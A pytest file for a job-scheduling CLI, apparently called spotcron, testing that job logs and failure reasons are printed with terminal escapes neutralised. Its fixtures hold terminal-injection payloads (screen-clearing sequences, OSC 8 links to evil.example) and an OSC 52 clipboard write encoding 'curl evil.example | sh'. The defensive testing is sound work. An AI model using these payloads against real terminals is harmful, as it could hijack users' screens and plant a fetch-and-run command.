"""A reason the job wrote and the job's own output reach the operator's terminal as text.

A container with metadata access may post its own callback, whose `problem` (any characters)
becomes the run's reason; and logs.txt is whatever the job printed. ESC and BEL in either would
clear the screen, move the cursor, plant an OSC 8 link or write the clipboard (OSC 52), in a
terminal and, since click strips only CSI sequences, through a pipe too. `spotcron results`, the
`no logs` error and `spotcron logs` show every such control as its escape; `logs --raw` gives the
job's bytes back for those who want its colours.
"""

from __future__ import annotations

from datetime import timedelta

import pytest

from spotcron.core.runs import RunState
from spotcron.testing.harness import make_spec
from tests.cli.conftest import NOW, make_record

HOUR = timedelta(hours=1)
HOSTILE = "gpu\x1b[2J\x1b[1;1Hall good\x1b]8;;https://evil.example\x07click\x1b]8;;\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
C1 = "\x9b2J\x9d8;;https://evil.example\x9c"  # CSI, OSC and ST as single C1 characters


def _no_control(text: str) -> None:
    assert not any(c in text for c in "\x1b\x07\x9b\x9d\x9c\r\x08"), repr(text)


def test_a_containers_own_callback_stores_its_problem_as_the_reason(h):
    """Why the rest matters: the job itself puts ESC sequences into its run's reason."""
    h.start(make_spec(name="bot", schedule="0 12 * * *"))
    body = {"job": "bot", "run_id": "20261122-1200", "attempt": 1, "status": "unavailable", "problem": HOSTILE}
    assert h.callback("bot", "20261122-1200", body=body).status_code == 200
    record = h.record("bot", "20261122-1200")
    assert record.state == RunState.SKIPPED
    assert HOSTILE in (record.reason or "")


def test_results_of_a_skipped_run_prints_its_reason_as_text(invoke, bucket):
    bucket.add(make_record("bench", "r1", "skipped", created=NOW - HOUR, reason=f"not run on this host: {HOSTILE}"))
    result = invoke("results", "bench/r1")
    assert result.exit_code == 0, result.output
    _no_control(result.stdout)
    assert "gpu\\x1b[2J\\x1b[1;1Hall good" in result.stdout  # shown, escaped


def test_results_of_a_run_cancelled_mid_upload_prints_its_reason_as_text_not_markup(invoke, bucket):
    bucket.add(make_record("bench", "r1", "cancelled", created=NOW - HOUR,
                           reason=f"[link=https://evil.example]stop[/link] {HOSTILE}"))
    bucket.results("bench", "r1", 1, {"a.txt": b"x"}, manifest=False)
    result = invoke("results", "bench/r1")
    assert result.exit_code == 0, result.output
    _no_control(result.stdout)
    assert "[link=https://evil.example]stop[/link]" in result.stdout  # literal, not a rich link


def test_the_no_logs_error_prints_the_reason_as_text(invoke, bucket):
    bucket.add(make_record("bench", "r1", "failed", created=NOW - HOUR, exit_code=1, reason=HOSTILE))
    result = invoke("logs", "bench/r1")
    assert result.exit_code != 0
    _no_control(result.stderr)


@pytest.mark.parametrize("extra", ["", "--timestamps"])
def test_logs_prints_a_jobs_output_without_terminal_escapes(invoke, bucket, extra):
    bucket.add(make_record("bench", "r1", "failed", created=NOW - HOUR, exit_code=1))
    bucket.logs("bench", "r1", 1, f"step 1\n{HOSTILE}{CLIPBOARD}\n{C1}\nover\rwrite\nback\x08space\n")
    result = invoke("logs", "bench/r1", *([extra] if extra else []))
    assert result.exit_code == 0, result.output
    _no_control(result.stdout)
    assert "\\x1b]52;c;" in result.stdout and "\\x9b2J" in result.stdout and "over\\x0dwrite" in result.stdout


def test_logs_keeps_newlines_tabs_and_crlf_line_ends(invoke, bucket):
    bucket.add(make_record("bench", "r1", "succeeded", created=NOW - HOUR, exit_code=0))
    bucket.logs("bench", "r1", 1, "epoch\tloss\r\n1\t0.5 é ✓\r\n")
    result = invoke("logs", "bench/r1")
    assert result.stdout == "epoch\tloss\n1\t0.5 é ✓\n"


def test_logs_raw_prints_the_output_as_the_job_wrote_it(invoke, bucket):
    text = f"step 1\n\x1b[31mred\x1b[0m {CLIPBOARD}\n"
    bucket.add(make_record("bench", "r1", "failed", created=NOW - HOUR, exit_code=1))
    bucket.logs("bench", "r1", 1, text)
    result = invoke("logs", "bench/r1", "--raw")
    assert result.exit_code == 0, result.output
    assert result.stdout == text


def test_logs_follow_prints_a_jobs_output_without_terminal_escapes(invoke, bucket, sleeps):
    job, run = "bot", "20260302-1100"
    bucket.add(make_record(job, run, "running", created=NOW - timedelta(minutes=1)))
    bucket.logs(job, run, 1, "one\r")  # a CRLF line end split between two polls stays a line end

    def finish() -> None:
        bucket.logs(job, run, 1, f"one\r\n{HOSTILE}\n")
        bucket.store.update(job, run, lambda r: r.with_state("failed", NOW, exit_code=1, reason=f"exit {HOSTILE}"))

    sleeps.steps = [lambda: None, finish]
    result = invoke("logs", run, "--follow", "--interval", "0.5")
    _no_control(result.stdout)
    _no_control(result.stderr)
    assert result.stdout.startswith("one\ngpu\\x1b[2J")
